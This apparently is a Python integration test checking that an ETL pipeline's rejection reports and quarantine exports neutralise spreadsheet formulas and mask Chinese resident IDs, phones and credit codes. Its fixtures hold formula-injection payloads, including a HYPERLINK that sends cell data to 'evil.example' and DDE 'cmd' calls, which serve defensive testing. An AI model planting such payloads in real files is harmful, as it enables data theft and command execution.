"""Department-facing files against hostile deliveries: the rejection report (CSV, HTML),
`govbase quarantine export` and `quarantine show` neither carry a live spreadsheet formula
nor print a resident ID, phone or individual business's credit code, wherever it was delivered.

A small demo delivery of ps_hukou gets extra rows appended: formula payloads in every
field, a ragged row that shifts a resident ID into the unmasked gender column and a phone
into the overflow, free text quoting IDs and a phone in columns whose mask is none.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from stdnum.cn import ric

from etl.config import Settings, get_settings
from etl.demo import generate
from etl.pipeline import run_publish, run_source

pytestmark = pytest.mark.integration

DATE = "2026-11-01"
ID = "11010519800101003" + ric.calc_check_digit("11010519800101003")
OLD_ID = "110105800101003"
PHONE = "13812345678"
SOLE = "92110105MA01ABCD3X"
SECRETS = [ID, ID[6:14], OLD_ID[6:12] + OLD_ID[12:], PHONE, PHONE[3:7] + PHONE[7:], "MA01ABCD3"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?id="&A2,"详情")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "+86" + PHONE,
    "-2+3",
]
#: a spreadsheet executes a cell beginning with one of these (after spaces), unless it is a number
LIVE = re.compile(r"^[ \u3000]*[=+\-@\t\r＝＋－＠]")
NUMBER = re.compile(r"^[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?$")


def _hostile_rows() -> list[list[str]]:
    return [
        # formula payloads in every field (9 fields, as declared)
        [FORMULAS[0], FORMULAS[1], "男", "1980-01-01", "01", FORMULAS[4], FORMULAS[2], FORMULAS[3], "20"],
        # ragged: two stray leading fields shift the ID into 性别 (mask none), the phone into overflow
        ["", "", ID, "张三", "男", "1980-01-01", "01", "110105", "北京市东城区东华门街道1号", PHONE, "20"],
        # free text with personal data in columns whose mask is none
        ["", "李四", f"见身份证{ID}", "1980-01-01", "01", f"旧证{OLD_ID}", "北京市", f"tel{PHONE}", SOLE],
    ]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    settings = get_settings(tmp_path_factory.mktemp("hostile") / "home")
    generate(settings, persons=200, seed=21)
    (path,) = (settings.landing / "ps_hukou").glob("hukou_*.csv")
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(_hostile_rows())
    path.write_bytes(path.read_bytes() + buf.getvalue().encode("gbk"))
    run_source("ps_hukou", DATE, "run-1", settings=settings)
    run_publish(DATE, "publish-1", settings=settings)
    return settings


def _cli(settings: Settings, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "etl.cli", *args, "--home", str(settings.home)],
        capture_output=True,
        text=True,
        env={**os.environ, "COLUMNS": "200"},
    )


def _assert_safe_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for Excel
    with path.open(encoding="utf-8-sig", newline="") as fh:
        cells = list(csv.reader(fh))
    live = [c for row in cells for c in row if LIVE.match(c) and not NUMBER.fullmatch(c)]
    assert not live, live[:5]
    _assert_no_secrets(raw.decode("utf-8-sig"))
    return cells


def _assert_no_secrets(text: str) -> None:
    leaked = [s for s in SECRETS if s in text]
    assert not leaked, leaked


def _hostile_row_numbers(settings: Settings) -> list[int]:
    (path,) = (settings.landing / "ps_hukou").glob("hukou_*.csv")
    records = path.read_bytes().count(b"\n") - 1  # one record per line after the header
    return [records - 2, records - 1, records]


def test_the_rejection_report_neutralizes_formulas_and_masks_by_content(hostile: Settings) -> None:
    folder = hostile.reports_dir / "public_security"
    cells = _assert_safe_csv(folder / "rejections.csv")
    header, rows = cells[0], cells[1:]
    by_row = {int(r[header.index("row")]): r for r in rows}
    assert set(_hostile_row_numbers(hostile)) <= set(by_row)  # all three are reported
    payload_row = by_row[_hostile_row_numbers(hostile)[0]]
    assert sum(c.startswith("'") for c in payload_row) >= 4  # the payloads are there, as text
    _assert_no_secrets((folder / "rejections.html").read_text(encoding="utf-8"))


def test_quarantine_export_and_show_are_as_safe(hostile: Settings, tmp_path: Path) -> None:
    out = tmp_path / "q.csv"
    export = _cli(hostile, "quarantine", "export", "--source", "ps_hukou", "-o", str(out))
    assert export.returncode == 0, export.stderr
    cells = _assert_safe_csv(out)
    assert len(cells) - 1 == len(pd.read_csv(out, encoding="utf-8-sig"))
    for row in _hostile_row_numbers(hostile):
        shown = _cli(hostile, "quarantine", "show", "--source", "ps_hukou", "--row", str(row))
        assert shown.returncode == 0, shown.stderr
        assert "********" in shown.stdout
        _assert_no_secrets(shown.stdout)
